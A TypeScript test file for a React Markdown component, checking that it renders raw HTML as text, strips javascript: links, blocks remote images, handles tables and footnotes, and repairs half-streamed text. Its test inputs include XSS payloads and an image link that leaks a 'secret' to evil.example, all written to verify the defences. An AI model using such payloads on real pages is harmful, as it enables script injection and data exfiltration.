import { render } from "@testing-library/react";
import { describe, expect, test } from "vitest";
import { Markdown } from "./markdown";

const html = (text: string, live = false) => render(<Markdown text={text} live={live} />).container;

describe("Markdown", () => {
  test("shows raw HTML as text and runs nothing", () => {
    const page = html('<img src=x onerror="alert(1)"><script>alert(2)</script>\n\n<b>bold</b> text');
    expect(page.querySelector("img, script, b")).toBeNull();
    expect(page.textContent).toContain("<b>bold</b> text");
  });

  test("drops addresses that would run code, and opens others without giving them the page", () => {
    const page = html("[bad](javascript:alert(1)) [good](https://example.com/a)");
    const [bad, good] = page.querySelectorAll("a");
    expect(bad?.getAttribute("href") ?? "").toBe("");
    expect(good?.getAttribute("rel")).toContain("noopener");
    expect(good?.title).toBe("example.com");
  });

  test("loads no image from elsewhere", () => {
    const page = html("![leak](https://evil.example/?secret) ![own](data:image/png;base64,AA==)");
    expect([...page.querySelectorAll("img")].map((image) => image.src)).toEqual([
      "data:image/png;base64,AA==",
    ]);
  });

  test("knows tables, task lists, struck text, bare links and footnotes", () => {
    const page = html(
      "| a |\n|---|\n| 1 |\n\n- [x] did\n\n~~old~~ https://example.com/a and[^1]\n\n[^1]: The note.",
    );
    expect(page.querySelector("td")?.textContent).toBe("1");
    expect(page.querySelector<HTMLInputElement>("input[type=checkbox]")?.checked).toBe(true);
    expect(page.querySelector("del")?.textContent).toBe("old");
    expect(page.querySelector("a")?.href).toBe("https://example.com/a");
    expect(page.querySelector("section")?.textContent).toContain("The note.");
  });

  test("repairs what is still open at the end of a live text", () => {
    expect(html("Some **bold te", true).querySelector("strong")?.textContent).toBe("bold te");
    expect(html("Run:\n\n```sh\nmake te", true).querySelector("pre")?.textContent).toBe("make te");
  });

  test("shows the same when a text has streamed in as when it comes whole", () => {
    const text =
      "# A\n\n- one\n- two\n\n```ts\nlet a;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nend *of* it";
    const streamed = render(<Markdown text="" live={true} />);
    for (let end = 0; end <= text.length; end += 3) {
      streamed.rerender(<Markdown text={text.slice(0, end)} live={true} />);
    }
    streamed.rerender(<Markdown text={text} live={false} />);
    expect(streamed.container.innerHTML).toBe(html(text).innerHTML);
  });
});
